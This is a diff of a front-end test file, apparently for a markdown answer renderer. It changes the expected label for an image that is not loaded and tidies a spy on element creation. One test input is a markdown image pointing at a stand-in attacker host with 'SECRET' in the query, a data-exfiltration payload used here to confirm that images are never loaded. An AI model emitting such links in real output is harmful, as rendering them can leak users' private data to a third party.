@@ -133,7 +133,7 @@ describe('links', () => {
 
   test('an image is a description with its host, never a picture', () => {
     const answer = shown('![A cat](https://evil.example/?q=SECRET)');
-    expect(answer.textContent).toBe('Image: A cat not loaded\u00a0(evil.example)');
+    expect(answer.textContent).toBe('Image, not loaded: A cat open\u00a0(evil.example)');
     expect(answer.querySelectorAll('img')).toHaveLength(0);
   });
 
@@ -211,10 +211,10 @@ describe('a growing text', () => {
     view.update(paragraphs.join('\n\n'), true);
     let made = 0;
     const create = document.createElement.bind(document);
-    document.createElement = ((name: string) => {
+    document.createElement = (name: string) => {
       made += 1;
       return create(name);
-    });
+    };
     try {
       view.update(`${paragraphs.join('\n\n')} More.`, true);
     } finally {
